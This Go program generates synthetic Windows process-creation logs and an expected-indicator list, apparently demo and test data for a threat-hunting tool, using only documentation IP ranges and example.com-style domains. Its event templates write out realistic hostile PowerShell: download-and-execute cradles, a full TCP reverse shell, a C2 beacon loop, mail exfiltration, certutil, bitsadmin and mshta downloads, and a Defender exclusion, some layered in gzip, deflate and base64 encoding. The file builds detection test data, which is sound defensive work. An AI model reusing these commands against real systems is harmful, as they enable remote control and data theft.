// Command gen writes hunch's demo data: examples/events.ndjson, synthetic Windows process
// events (Sysmon EventID 1 and Security 4688) with encoded PowerShell among benign noise,
// examples/expected_iocs.json, every indicator planted in them, and examples/logons.ndjson,
// two weeks of logons with a password spray and an outage planted for time-series analysis. Run it from the repository
// root with `go run ./examples/gen`; the output is the same on every run.
//
// Every indicator uses a documentation range (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
// 2001:db8::/32) or a name under example.com, example.net or example.org; hashes are random
// hex. The encodings are real: base64 of UTF-16LE for -EncodedCommand, gzip and raw deflate
// inside [Convert]::FromBase64String stagers, and a script base64-encoded inside another.
package main

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"
	"unicode/utf16"
)

func main() {
	dir := flag.String("dir", "examples", "directory to write events.ndjson and expected_iocs.json into")
	flag.Parse()
	if err := write(*dir); err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(1)
	}
}

// write generates the demo files into dir.
func write(dir string) error {
	events, iocs, err := generate()
	if err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dir, "events.ndjson"), events, 0o644); err != nil {
		return fmt.Errorf("write events: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "expected_iocs.json"), iocs, 0o644); err != nil {
		return fmt.Errorf("write expected indicators: %w", err)
	}
	if _, err := writeLogons(dir); err != nil {
		return fmt.Errorf("write logons: %w", err)
	}
	return nil
}

// IOC is one indicator planted in the demo events, as written to expected_iocs.json.
type IOC struct {
	// Event is the 1-based line number of the event in events.ndjson.
	Event int `json:"event"`
	// Field is the event field holding the indicator.
	Field string `json:"field"`
	// Type is hunch's indicator type name.
	Type string `json:"type"`
	// Value is the canonical value (refanged, lower-case hashes and domains, RFC 5952 IPv6).
	Value string `json:"value"`
	// Raw is the text as written when it differs from Value (defanged indicators, upper-case
	// hashes and host names).
	Raw string `json:"raw,omitempty"`
	// Decoded is true when the indicator is only visible after decoding an encoded blob.
	Decoded bool `json:"decoded"`
	// Within is "url" for the host of a URL and "email" for the domain of an e-mail address;
	// hunch reports those again as their own indicator.
	Within string `json:"within,omitempty"`
}

// text is a piece of a field value and the indicators planted in it.
type text struct {
	s    string
	iocs []IOC
}

// lit parses a template in which indicators are marked «type|raw text», for example
// «url|http://198.51.100.23/a.ps1» or «windows_path|C:\Users\Public\agent.exe». A URL also
// plants its host, an e-mail address its domain.
func lit(tmpl string) text {
	var t text
	var b strings.Builder
	for {
		i := strings.Index(tmpl, "«")
		if i < 0 {
			b.WriteString(tmpl)
			break
		}
		b.WriteString(tmpl[:i])
		rest := tmpl[i+len("«"):]
		j := strings.Index(rest, "»")
		if j < 0 {
			panic("unclosed marker in " + tmpl)
		}
		typ, raw, ok := strings.Cut(rest[:j], "|")
		if !ok {
			panic("marker without type in " + tmpl)
		}
		b.WriteString(raw)
		t.iocs = append(t.iocs, plant(typ, raw)...)
		tmpl = rest[j+len("»"):]
	}
	t.s = b.String()
	return t
}

// refang undoes the defanging used in the templates.
var refang = strings.NewReplacer("hxxps", "https", "hxxp", "http", "[.]", ".", "(.)", ".", "[at]", "@", "[@]", "@")

// plant returns the indicator raw and those derived from it.
func plant(typ, raw string) []IOC {
	value := refang.Replace(raw)
	switch typ {
	case "ipv6":
		value = netip.MustParseAddr(value).String()
	case "domain":
		value = strings.ToLower(value)
	}
	in := IOC{Type: typ, Value: value}
	if value != raw {
		in.Raw = raw
	}
	out := []IOC{in}
	switch typ {
	case "url":
		u, err := url.Parse(value)
		if err != nil || u.Hostname() == "" {
			panic("bad URL " + value)
		}
		out = append(out, host(u.Hostname(), value != raw, "url"))
	case "email":
		_, dom, _ := strings.Cut(value, "@")
		out = append(out, host(dom, value != raw, "email"))
	}
	return out
}

// host returns the indicator for the host part of a URL or e-mail address.
func host(h string, defanged bool, within string) IOC {
	in := IOC{Type: "domain", Value: h, Within: within}
	if a, err := netip.ParseAddr(h); err == nil {
		in.Type, in.Value = "ipv4", a.String()
		if a.Is6() {
			in.Type = "ipv6"
		}
	}
	if defanged {
		in.Raw = strings.ReplaceAll(h, ".", "[.]")
	}
	return in
}

// cat joins pieces.
func cat(parts ...text) text {
	var t text
	for _, p := range parts {
		t.s += p.s
		t.iocs = append(t.iocs, p.iocs...)
	}
	return t
}

// hidden returns the indicators of t marked as visible only after decoding.
func hidden(t text) []IOC {
	out := slices.Clone(t.iocs)
	for i := range out {
		out[i].Decoded = true
		out[i].Raw = ""
	}
	return out
}

// utf16le encodes s as UTF-16LE, PowerShell's -EncodedCommand text encoding.
func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return b
}

// encodedCommand returns script as an -EncodedCommand argument (base64 of UTF-16LE).
func encodedCommand(script text) text {
	return text{s: base64.StdEncoding.EncodeToString(utf16le(script.s)), iocs: hidden(script)}
}

// gzipped returns the base64 of script compressed with gzip (no name, no time: deterministic).
// Writes to a bytes.Buffer cannot fail and the level is valid, so errors are not checked here
// or in deflated; TestEncodingsDecode decompresses both.
func gzipped(script text) text {
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	zw.Write([]byte(script.s))
	zw.Close()
	return text{s: base64.StdEncoding.EncodeToString(buf.Bytes()), iocs: hidden(script)}
}

// deflated returns the base64 of script compressed with raw deflate.
func deflated(script text) text {
	var buf bytes.Buffer
	zw, _ := flate.NewWriter(&buf, flate.BestCompression)
	zw.Write([]byte(script.s))
	zw.Close()
	return text{s: base64.StdEncoding.EncodeToString(buf.Bytes()), iocs: hidden(script)}
}

// Paths used in several events.
const (
	psPath       = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	pwshPath     = `C:\Program Files\PowerShell\7\pwsh.exe`
	cmdPath      = `C:\Windows\System32\cmd.exe`
	explorerPath = `C:\Windows\explorer.exe`
	servicesPath = `C:\Windows\System32\services.exe`
	svchostPath  = `C:\Windows\System32\svchost.exe`
	chromePath   = `C:\Program Files\Google\Chrome\Application\chrome.exe`
	wordPath     = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	outlookPath  = `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`
	wmiPrvSEPath = `C:\Windows\System32\wbem\WmiPrvSE.exe`
)

// event describes one process creation before it is rendered as Sysmon or 4688.
type event struct {
	sysmon    bool
	host      string // short name; the FQDN is host.corp.example.com
	user      string
	image     string
	cmd       text
	parent    string
	parentCmd text // Sysmon only
}

// p marks a Windows path for templates.
func p(path string) string { return "«windows_path|" + path + "»" }

// demoEvents returns the demo events in time order.
func demoEvents() []event {
	word := lit(p(wordPath) + ` /n "` + p(`C:\Users\jdoe\Downloads\invoice_4471.docm`) + `"`)
	explorer := lit(p(explorerPath))
	cmdParent := lit(p(cmdPath) + ` /c start /b powershell`)
	svchost := lit(p(svchostPath) + ` -k netsvcs -p -s Schedule`)

	gzipStage := lit(`$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');` +
		`$wc.Proxy=[Net.WebRequest]::GetSystemWebProxy();` +
		`try{IEX $wc.DownloadString('«url|http://203.0.113.77/stage/payload.ps1»')}` +
		`catch{IEX $wc.DownloadString('«url|https://files.example.org/p/update.ps1»')}`)
	deflateStage := lit(`$d='«url|https://update.example.com/dl/kb5034441.exe»';` +
		`(New-Object Net.WebClient).DownloadFile($d,'` + p(`C:\ProgramData\kb5034441.exe`) + `');` +
		`Start-Process '` + p(`C:\ProgramData\kb5034441.exe`) + `'`)
	innerLoader := lit(`iwr -UseBasicParsing «url|http://198.51.100.140/b/loader.ps1» | iex;` +
		`Send-MailMessage -SmtpServer «domain|mail.example.net» -From «email|it-support@example.org» ` +
		`-To «email|exfil-drop@example.net» -Subject report -Attachments ` + p(`C:\Users\Public\l.dat`))

	return []event{
		{sysmon: true, host: "WKS-014", user: `NT AUTHORITY\SYSTEM`, image: svchostPath,
			cmd: svchost, parent: servicesPath, parentCmd: lit(p(servicesPath))},
		{host: "WKS-022", user: "asmith", image: chromePath,
			cmd:    lit(`"` + p(chromePath) + `" --type=renderer --lang=en-US --renderer-client-id=7 --launch-time-ticks=90412345`),
			parent: chromePath},
		{sysmon: true, host: "WKS-022", user: `CORP\asmith`, image: `C:\Windows\System32\notepad.exe`,
			cmd:    lit(`"` + p(`C:\Windows\System32\notepad.exe`) + `" ` + p(`C:\Users\asmith\Documents\meeting-notes.txt`)),
			parent: explorerPath, parentCmd: explorer},
		{host: "WKS-014", user: "jdoe", image: cmdPath,
			cmd: lit(`cmd.exe /c dir ` + p(`C:\Users\jdoe\Downloads`)), parent: explorerPath},
		// The user opens the invoice; its macro starts an encoded download cradle.
		{sysmon: true, host: "WKS-014", user: `CORP\jdoe`, image: psPath,
			cmd: cat(lit(`powershell.exe -NoP -W Hidden -enc `),
				encodedCommand(lit(`IEX (New-Object Net.WebClient).DownloadString('«url|http://198.51.100.23/a.ps1»')`))),
			parent: wordPath, parentCmd: word},
		{host: "WKS-014", user: "jdoe", image: `C:\Windows\System32\conhost.exe`,
			cmd: lit(p(`C:\Windows\System32\conhost.exe`) + ` 0xffffffff -ForceV1`), parent: psPath},
		{sysmon: true, host: "WKS-014", user: `CORP\jdoe`, image: psPath,
			cmd: cat(lit(`"`+p(psPath)+`" -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand `),
				encodedCommand(lit(`Invoke-WebRequest -Uri «url|https://cdn.example.net/updates/agent.exe» -OutFile `+
					p(`C:\Users\Public\agent.exe`)+`; Start-Process `+p(`C:\Users\Public\agent.exe`)))),
			parent: cmdPath, parentCmd: cmdParent},
		{host: "WKS-014", user: "jdoe", image: `C:\Windows\System32\certutil.exe`,
			cmd: lit(`certutil.exe -urlcache -split -f «url|http://192.0.2.10/files/invoice.exe» ` +
				p(`C:\Users\Public\invoice.exe`)),
			parent: cmdPath},
		{sysmon: true, host: "WKS-031", user: `CORP\bwayne`, image: chromePath,
			cmd:    lit(`"` + p(chromePath) + `" --single-argument «url|https://www.example.com/docs/getting-started.html»`),
			parent: explorerPath, parentCmd: explorer},
		{host: "WKS-014", user: "jdoe", image: psPath,
			cmd: cat(lit(`PowerShell -nop -w 1 /e `),
				encodedCommand(lit(`$c=New-Object Net.Sockets.TCPClient('«ipv4|203.0.113.5»',443);$s=$c.GetStream();`+
					`[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){`+
					`$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String)+'PS> ';`+
					`$o=([Text.Encoding]::ASCII).GetBytes($r);$s.Write($o,0,$o.Length);$s.Flush()};$c.Close()`))),
			parent: wordPath},
		{sysmon: true, host: "WKS-031", user: `CORP\bwayne`, image: `C:\Windows\System32\taskhostw.exe`,
			cmd: lit(`taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`), parent: svchostPath, parentCmd: svchost},
		{host: "WKS-014", user: "jdoe", image: psPath,
			cmd: cat(lit(`powershell.exe -ExecutionPolicy Bypass -eNc `),
				encodedCommand(lit(`$t=(Resolve-DnsName -Name «domain|c2.example.com» -Type TXT).Strings -join '';`+
					`while($true){$r=Invoke-RestMethod -Uri '«url|https://api.example.org/v1/checkin»' -Method Post `+
					`-Body @{h=$env:COMPUTERNAME;u=$env:USERNAME;t=$t};if($r.cmd){iex $r.cmd};Start-Sleep -Seconds 300}`))),
			parent: psPath},
		// A gzip stager in a plain command line.
		{sysmon: true, host: "WKS-022", user: `CORP\asmith`, image: psPath,
			cmd: cat(lit(`powershell.exe -nop -w hidden -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('`),
				gzipped(gzipStage),
				lit(`'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`)),
			parent: outlookPath, parentCmd: lit(`"` + p(outlookPath) + `" /recycle`)},
		{host: "SRV-FS01", user: "SRV-FS01$", image: svchostPath,
			cmd: lit(p(svchostPath) + ` -k LocalServiceNetworkRestricted -p`), parent: servicesPath},
		{sysmon: true, host: "WKS-022", user: `CORP\asmith`, image: psPath,
			cmd: cat(lit(`powershell -ec `),
				encodedCommand(lit(`Invoke-WebRequest -Uri '«url|http://[2001:db8:4f::15]:8080/stage2.dat»' -OutFile `+
					p(`C:\Users\asmith\AppData\Local\Temp\stage2.dat`)+`;`+
					`Test-NetConnection -ComputerName «ipv6|2001:db8:4f::53» -Port 53`))),
			parent: cmdPath, parentCmd: cmdParent},
		{host: "WKS-031", user: "bwayne", image: `C:\Windows\System32\whoami.exe`,
			cmd: lit(`whoami.exe /all`), parent: cmdPath},
		// An analyst records a phishing link, defanged, during triage.
		{sysmon: true, host: "WKS-SOC02", user: `CORP\soc.analyst`, image: cmdPath,
			cmd: lit(`cmd.exe /c echo «url|hxxp://login-verify[.]example[.]com/account/reset?id=4471» >> ` +
				p(`C:\Users\soc.analyst\Desktop\phish-triage.txt`)),
			parent: explorerPath, parentCmd: explorer},
		// A DeflateStream stager, itself sent as an -EncodedCommand.
		{host: "WKS-022", user: "asmith", image: psPath,
			cmd: cat(lit(`powershell.exe -NoProfile -EncodedC `),
				encodedCommand(cat(
					lit(`sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('`),
					deflated(deflateStage),
					lit(`'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`)))),
			parent: wmiPrvSEPath},
		{sysmon: true, host: "WKS-031", user: `CORP\bwayne`, image: `C:\Windows\System32\ipconfig.exe`,
			cmd: lit(`ipconfig.exe /all`), parent: cmdPath, parentCmd: lit(p(cmdPath) + ` /c ipconfig /all > nul`)},
		// Double encoding: the decoded script decodes and runs a second base64 script.
		{host: "WKS-022", user: "asmith", image: psPath,
			cmd: cat(lit(`powershell.exe -w hidden -En `),
				encodedCommand(cat(lit(`$x='`), encodedCommand(innerLoader),
					lit(`';IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x)))`)))),
			parent: wmiPrvSEPath},
		{sysmon: true, host: "WKS-040", user: `CORP\ckent`, image: explorerPath,
			cmd: explorer, parent: `C:\Windows\System32\userinit.exe`, parentCmd: lit(p(`C:\Windows\System32\userinit.exe`))},
		{host: "WKS-040", user: "ckent", image: psPath,
			cmd: cat(lit(`"`+p(psPath)+`" -encodedcommand `),
				encodedCommand(lit(`Add-MpPreference -ExclusionPath `+p(`C:\ProgramData\Updater`)+`;`+
					`(New-Object Net.WebClient).DownloadFile('«url|https://dl.example.com/updater/setup.exe»','`+
					p(`C:\ProgramData\Updater\setup.exe`)+`')`))),
			parent: cmdPath},
		{sysmon: true, host: "WKS-040", user: `CORP\ckent`, image: wordPath,
			cmd:    lit(`"` + p(wordPath) + `" /n "` + p(`C:\Users\ckent\Documents\q1-budget.docx`) + `"`),
			parent: explorerPath, parentCmd: explorer},
		{host: "WKS-040", user: "ckent", image: `C:\Windows\System32\mshta.exe`,
			cmd: lit(`mshta.exe «url|https://docs.example.org/viewer/preview.hta»`), parent: explorerPath},
		{sysmon: true, host: "WKS-040", user: `CORP\ckent`, image: pwshPath,
			cmd: cat(lit(`"`+p(pwshPath)+`" -NoLogo -e `),
				encodedCommand(lit(`$p=Join-Path $env:TEMP 'u.ps1';Invoke-WebRequest -Uri «url|https://198.51.100.61/scripts/u.ps1» -OutFile $p;& $p`))),
			parent: cmdPath, parentCmd: cmdParent},
		{host: "SRV-FS01", user: "svc_inventory", image: psPath,
			cmd:    lit(`"` + p(psPath) + `" -NoProfile -ExecutionPolicy Bypass -File ` + p(`C:\ProgramData\Corp\inventory.ps1`)),
			parent: svchostPath},
		{sysmon: true, host: "WKS-031", user: `CORP\bwayne`, image: `C:\Windows\System32\SearchIndexer.exe`,
			cmd: lit(p(`C:\Windows\System32\SearchIndexer.exe`) + ` /Embedding`), parent: servicesPath, parentCmd: lit(p(servicesPath))},
		{host: "WKS-040", user: "ckent", image: psPath,
			cmd: cat(lit(`powershell.exe -ep bypass -ENC `),
				encodedCommand(lit(`Start-BitsTransfer -Source «url|http://192.0.2.44/dl/helper.dll» -Destination `+
					p(`C:\Users\Public\helper.dll`)+`;rundll32.exe `+p(`C:\Users\Public\helper.dll`)+`,DllRegisterServer`))),
			parent: cmdPath},
		{sysmon: true, host: "WKS-031", user: `CORP\bwayne`, image: `C:\Windows\System32\PING.EXE`,
			cmd: lit(`ping.exe -6 -n 2 «ipv6|2001:db8:85a3::8a2e:370:7334»`), parent: cmdPath, parentCmd: cmdParent},
		{host: "WKS-031", user: "bwayne", image: `C:\Windows\System32\nslookup.exe`,
			cmd: lit(`nslookup.exe «domain|wpad.corp.example.com»`), parent: cmdPath},
		{sysmon: true, host: "WKS-ADM01", user: `CORP\it.admin`, image: `C:\Windows\System32\OpenSSH\ssh.exe`,
			cmd:    lit(`"` + p(`C:\Windows\System32\OpenSSH\ssh.exe`) + `" «email|admin@bastion.example.net» -p 22`),
			parent: cmdPath, parentCmd: lit(p(cmdPath))},
		{host: "WKS-ADM01", user: "it.admin", image: `C:\Windows\System32\RuntimeBroker.exe`,
			cmd: lit(p(`C:\Windows\System32\RuntimeBroker.exe`) + ` -Embedding`), parent: svchostPath},
		{sysmon: true, host: "WKS-014", user: `CORP\jdoe`, image: cmdPath,
			cmd: lit(`cmd.exe /c "whoami /groups & net user /domain & nltest /dclist:corp"`), parent: psPath,
			parentCmd: lit(`powershell.exe -nop`)},
		{host: "WKS-014", user: "jdoe", image: `C:\Windows\System32\schtasks.exe`,
			cmd: lit(`schtasks.exe /query /fo LIST /v`), parent: cmdPath},
		{sysmon: true, host: "WKS-022", user: `CORP\asmith`, image: `C:\Windows\System32\curl.exe`,
			cmd:    lit(`curl.exe -s -o ` + p(`C:\Users\asmith\Downloads\report.pdf`) + ` «url|https://reports.example.org/q1/report.pdf»`),
			parent: cmdPath, parentCmd: cmdParent},
		{host: "WKS-022", user: "asmith", image: `C:\Windows\System32\bitsadmin.exe`,
			cmd: lit(`bitsadmin /transfer job1 /download /priority normal «url|http://203.0.113.200/upd/patch.exe» ` +
				p(`C:\Windows\Temp\patch.exe`)),
			parent: cmdPath},
		{sysmon: true, host: "WKS-040", user: `CORP\ckent`, image: `C:\Windows\System32\rundll32.exe`,
			cmd: lit(`rundll32.exe shell32.dll,Control_RunDLL desk.cpl`), parent: explorerPath, parentCmd: explorer},
		{host: "WKS-ADM01", user: "it.admin", image: `C:\Windows\System32\notepad.exe`,
			cmd: lit(`notepad.exe ` + p(`C:\Users\it.admin\Desktop\todo.txt`)), parent: explorerPath},
		{sysmon: true, host: "WKS-ADM01", user: `CORP\it.admin`, image: `C:\Windows\System32\wbem\WMIC.exe`,
			cmd: lit(`wmic.exe /node:«ipv4|192.0.2.31» process list brief`), parent: cmdPath, parentCmd: lit(p(cmdPath))},
		{host: "WKS-SOC02", user: "soc.analyst", image: outlookPath,
			cmd: lit(`"` + p(outlookPath) + `"`), parent: explorerPath},
	}
}

// sysmonEvent is a Sysmon EventID 1 (process creation) record.
type sysmonEvent struct {
	UtcTime           string
	EventID           int
	Computer          string
	User              string
	Image             string
	CommandLine       string
	ParentImage       string
	ParentCommandLine string
	ProcessGuid       string
	ProcessId         int
	ParentProcessGuid string
	ParentProcessId   int
	IntegrityLevel    string
	Hashes            string
}

// securityEvent is a Security 4688 (a new process has been created) record.
type securityEvent struct {
	TimeCreated        string
	EventID            int
	Computer           string
	SubjectUserSid     string
	SubjectUserName    string
	SubjectDomainName  string
	SubjectLogonId     string
	NewProcessId       string
	NewProcessName     string
	TokenElevationType string
	ProcessId          string
	CommandLine        string
	ParentProcessName  string
	MandatoryLabel     string
}

// generate renders the events and their expected indicators.
func generate() (events, expected []byte, err error) {
	rng := rand.New(rand.NewPCG(2026, 314))
	hexN := func(n int) string {
		const digits = "0123456789abcdef"
		b := make([]byte, n)
		for i := range b {
			b[i] = digits[rng.IntN(16)]
		}
		return string(b)
	}
	guid := func() string {
		h := strings.ToUpper(hexN(32))
		return "{" + h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:] + "}"
	}
	t := time.Date(2026, 3, 14, 8, 2, 11, 457e6, time.UTC)

	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	var all []IOC
	for i, ev := range demoEvents() {
		n := i + 1
		t = t.Add(time.Duration(40+rng.IntN(400))*time.Second + time.Duration(rng.IntN(1000))*time.Millisecond)
		fqdn := ev.host + ".corp.example.com"
		fields := map[string]text{
			"Computer":    lit("«domain|" + fqdn + "»"),
			"CommandLine": ev.cmd,
		}
		var rec any
		if ev.sysmon {
			md5, sha256 := hexN(32), hexN(64)
			if rng.IntN(2) == 0 {
				md5, sha256 = strings.ToUpper(md5), strings.ToUpper(sha256)
			}
			fields["Image"] = lit(p(ev.image))
			fields["ParentImage"] = lit(p(ev.parent))
			fields["ParentCommandLine"] = ev.parentCmd
			fields["Hashes"] = lit("SHA256=«sha256|" + sha256 + "»,MD5=«md5|" + md5 + "»")
			level := "Medium"
			if strings.HasPrefix(ev.user, "NT AUTHORITY") {
				level = "System"
			}
			rec = sysmonEvent{
				UtcTime: t.Format("2006-01-02 15:04:05.000"), EventID: 1, Computer: fqdn, User: ev.user,
				Image: ev.image, CommandLine: ev.cmd.s, ParentImage: ev.parent, ParentCommandLine: ev.parentCmd.s,
				ProcessGuid: guid(), ProcessId: 1000 + rng.IntN(15000), ParentProcessGuid: guid(),
				ParentProcessId: 500 + rng.IntN(15000), IntegrityLevel: level,
				Hashes: fields["Hashes"].s,
			}
		} else {
			fields["NewProcessName"] = lit(p(ev.image))
			fields["ParentProcessName"] = lit(p(ev.parent))
			domain, sid := "CORP", fmt.Sprintf("S-1-5-21-3623811015-3361044348-30300820-%d", 1100+rng.IntN(400))
			if strings.HasSuffix(ev.user, "$") {
				sid = "S-1-5-18"
			}
			rec = securityEvent{
				TimeCreated: t.Format("2006-01-02T15:04:05.000Z"), EventID: 4688, Computer: fqdn,
				SubjectUserSid: sid, SubjectUserName: ev.user, SubjectDomainName: domain,
				SubjectLogonId: fmt.Sprintf("0x%x", 0x10000+rng.IntN(0xfffff)),
				NewProcessId:   fmt.Sprintf("0x%x", 0x400+rng.IntN(0x4000)), NewProcessName: ev.image,
				TokenElevationType: "%%1938", ProcessId: fmt.Sprintf("0x%x", 0x400+rng.IntN(0x4000)),
				CommandLine: ev.cmd.s, ParentProcessName: ev.parent, MandatoryLabel: "S-1-16-8192",
			}
		}
		if err := enc.Encode(rec); err != nil {
			return nil, nil, fmt.Errorf("encode event %d: %w", n, err)
		}
		names := make([]string, 0, len(fields))
		for name := range fields {
			names = append(names, name)
		}
		slices.Sort(names)
		for _, name := range names {
			seen := map[IOC]bool{}
			for _, in := range fields[name].iocs {
				in.Event, in.Field = n, name
				if in.Type == "md5" || in.Type == "sha1" || in.Type == "sha256" {
					if low := strings.ToLower(in.Value); low != in.Value {
						in.Raw, in.Value = in.Value, low
					}
				}
				if !seen[in] {
					seen[in] = true
					all = append(all, in)
				}
			}
		}
	}
	if err := check(out.Bytes(), all); err != nil {
		return nil, nil, err
	}
	expected, err = json.MarshalIndent(all, "", "  ")
	if err != nil {
		return nil, nil, fmt.Errorf("encode expected indicators: %w", err)
	}
	return out.Bytes(), append(expected, '\n'), nil
}

// check verifies the planted indicators against the rendered events: every visible one occurs
// in its field, no decoded one is also planted in plain text, and everything is
// in a documentation range or under example.com/.net/.org.
func check(events []byte, iocs []IOC) error {
	var recs []map[string]any
	dec := json.NewDecoder(bytes.NewReader(events))
	for {
		var m map[string]any
		if err := dec.Decode(&m); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			return fmt.Errorf("re-read events: %w", err)
		}
		recs = append(recs, m)
	}
	docNets := []netip.Prefix{
		netip.MustParsePrefix("192.0.2.0/24"), netip.MustParsePrefix("198.51.100.0/24"),
		netip.MustParsePrefix("203.0.113.0/24"), netip.MustParsePrefix("2001:db8::/32"),
	}
	type key struct{ typ, value string }
	plain := map[key]bool{}
	for _, in := range iocs {
		if !in.Decoded {
			plain[key{in.Type, in.Value}] = true
		}
	}
	for _, in := range iocs {
		field, _ := recs[in.Event-1][in.Field].(string)
		raw := in.Value
		if in.Raw != "" {
			raw = in.Raw
		}
		if in.Decoded {
			if plain[key{in.Type, in.Value}] {
				return fmt.Errorf("decoded %s %q is also planted in plain text", in.Type, in.Value)
			}
		} else if !strings.Contains(field, raw) {
			return fmt.Errorf("event %d: %s %q not in field %s", in.Event, in.Type, raw, in.Field)
		}
		var hostName string
		switch in.Type {
		case "ipv4", "ipv6":
			a := netip.MustParseAddr(in.Value)
			if !slices.ContainsFunc(docNets, func(p netip.Prefix) bool { return p.Contains(a) }) {
				return fmt.Errorf("%s is not in a documentation range", in.Value)
			}
		case "domain":
			hostName = in.Value
		case "email":
			_, hostName, _ = strings.Cut(in.Value, "@")
		}
		if hostName != "" && !slices.ContainsFunc([]string{"example.com", "example.net", "example.org"}, func(d string) bool {
			return hostName == d || strings.HasSuffix(hostName, "."+d)
		}) {
			return fmt.Errorf("%s is not under example.com, example.net or example.org", hostName)
		}
	}
	return nil
}
